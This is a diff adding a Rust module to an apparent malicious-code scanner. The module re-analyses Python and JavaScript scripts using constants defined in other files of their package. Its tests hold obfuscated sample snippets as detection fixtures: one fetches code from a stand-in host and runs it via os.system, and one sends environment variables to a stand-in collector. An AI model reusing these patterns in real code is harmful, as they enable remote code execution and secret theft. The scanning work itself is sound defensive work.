@@ -1,0 +1,96 @@
+//! Scripts that take what they call from constants of other files of their package: what each file gives, and a second
+//! look with all of it.
+
+use std::collections::HashMap;
+
+use super::flows;
+use super::machine::{Machine, Outcome, Reach};
+use crate::analyze::Notes;
+use crate::model::fact::{Literal, UnfinishedScript};
+use crate::model::{Confidence, Evidence, Fact, FactKind, FileKind, Finding, Severity};
+use crate::parse::script::{Language, read};
+
+/// Longest script in bytes that is looked at again, and longest that gives constants.
+const MAX_UNFINISHED: usize = 64 << 10;
+const MAX_GIVING: usize = 256 << 10;
+
+/// What a file gives to the others of its package.
+pub(super) fn give(kind: FileKind, text: &str, outcome: &Outcome, out: &mut Notes) {
+    if !matches!(Language::of(kind), Some(Language::Python | Language::JavaScript)) {
+        return;
+    }
+    if text.len() <= MAX_GIVING {
+        let constants = outcome.constants.iter();
+        out.facts.extend(
+            constants.map(|(name, value)| Fact::whole(FactKind::Constant(name.clone(), Box::new(value.clone())))),
+        );
+    }
+    if outcome.unnamed > 0 && text.len() <= MAX_UNFINISHED {
+        let script = UnfinishedScript { kind, text: text.into() };
+        out.facts.push(Fact::whole(FactKind::Unfinished(Box::new(script))));
+    }
+}
+
+/// Follows a script again with the constants of its package. What was seen without them is seen again; the caller keeps
+/// what is new.
+#[must_use]
+pub fn follow_again(script: &UnfinishedScript, constants: HashMap<Box<str>, Literal>) -> Vec<Finding> {
+    let Some(language) = Language::of(script.kind) else { return Vec::new() };
+    let reach = Reach { fuel: super::fuel_for(script.text.len() as u64) };
+    let outcome = Machine::new(read(language, &script.text), reach).with_constants(constants).run();
+    flows::judge(&outcome, false)
+        .iter()
+        .map(|flow| {
+            let note = format!("with constants of other files of the package: {}", flow.note);
+            let mut finding = flow.rule.finding(Evidence::note(note));
+            if let Some(severity) = flow.severity {
+                finding.severity = severity;
+            }
+            if flow.certain {
+                (finding.severity, finding.confidence) = (Severity::Critical, Confidence::Certain);
+            }
+            finding.stages = finding.stages.with(flow.stages());
+            finding.within = flow.event.within.as_deref().map(Into::into);
+            finding
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn constants_of(kind: FileKind, text: &str) -> HashMap<Box<str>, Literal> {
+        let language = Language::of(kind).unwrap();
+        let outcome = Machine::new(read(language, text), Reach { fuel: 100_000 }).run();
+        outcome.constants.into_iter().collect()
+    }
+
+    fn rules(kind: FileKind, text: &str, constants: HashMap<Box<str>, Literal>) -> Vec<&'static str> {
+        let script = UnfinishedScript { kind, text: text.into() };
+        follow_again(&script, constants).iter().map(|f| f.rule.id).collect()
+    }
+
+    #[test]
+    fn names_come_together_with_what_another_file_holds() {
+        let words = "W = [111, 115, 115, 121, 115, 116, 101, 109]";
+        let code = "from .words import W as w\nimport urllib.request\nt = ''.join(chr(c) for c in w)\n\
+                    getattr(__import__(t[:2]), t[2:])(urllib.request.urlopen('https://h.invalid/x').read().decode())";
+        let constants = constants_of(FileKind::Python, words);
+        assert_eq!(constants.len(), 1);
+        assert!(rules(FileKind::Python, code, HashMap::new()).iter().all(|r| *r == "flow-calls-home"));
+        assert!(rules(FileKind::Python, code, constants).contains(&"flow-download-run"));
+
+        let places = "const PLACE = ['https', 'collect.invalid', 'POST', 'env'];\nmodule.exports = { PLACE };";
+        let code = "const { PLACE } = require('./places');\nconst ask = require(PLACE[0]).request({ host: PLACE[1], method: PLACE[2] });\n\
+                    ask.write(JSON.stringify(process[PLACE[3]]));";
+        let constants = constants_of(FileKind::JavaScript, places);
+        assert!(rules(FileKind::JavaScript, code, constants).contains(&"flow-environment-sent"));
+    }
+
+    #[test]
+    fn short_and_long_constants_are_kept_where_they_are() {
+        assert!(constants_of(FileKind::Python, "A = 1\nB = 'xy'\nC = [1, 2]\nD = [object()] * 9").is_empty());
+        assert_eq!(constants_of(FileKind::Python, "A = 'https://h.invalid'\nB = b'abcdef'").len(), 2);
+    }
+}
